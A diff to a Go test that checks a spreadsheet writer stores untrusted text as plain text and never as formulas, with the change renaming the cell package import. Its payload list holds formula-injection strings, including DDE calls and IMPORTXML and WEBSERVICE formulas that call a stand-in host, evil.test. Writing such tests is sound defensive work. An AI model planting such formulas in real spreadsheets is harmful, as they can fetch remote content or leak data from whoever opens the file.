@@ -6,7 +6,7 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 
-	"claimsheet/mapping"
+	"claimsheet/mapping/cell"
 )
 
 // X-4 of docs/security.md: no text of a sheet or of the service becomes a
@@ -17,9 +17,9 @@ func TestX4_NoFormulas(t *testing.T) {
 		`=DDE("a";"b";"c")`, `=IMPORTXML("http://evil.test","//a")`, `=WEBSERVICE("http://evil.test")`, "＝1+1", "＋1", "－1", "＠SUM(1)",
 		" =1+1", "'=1+1", `="a"&"b"`, "=1+1;2",
 	}
-	var cells []mapping.Cell
+	var cells []cell.Cell
 	for _, p := range payloads {
-		cells = append(cells, mapping.Cell{Kind: mapping.TextCell, Raw: p, Shown: p})
+		cells = append(cells, cell.Cell{Kind: cell.Text, Raw: p, Shown: p})
 	}
 	path, f := written(t, sheetOf(cells...))
 	if diff := cmp.Diff(payloads, column(t, f, len(payloads))); diff != "" {
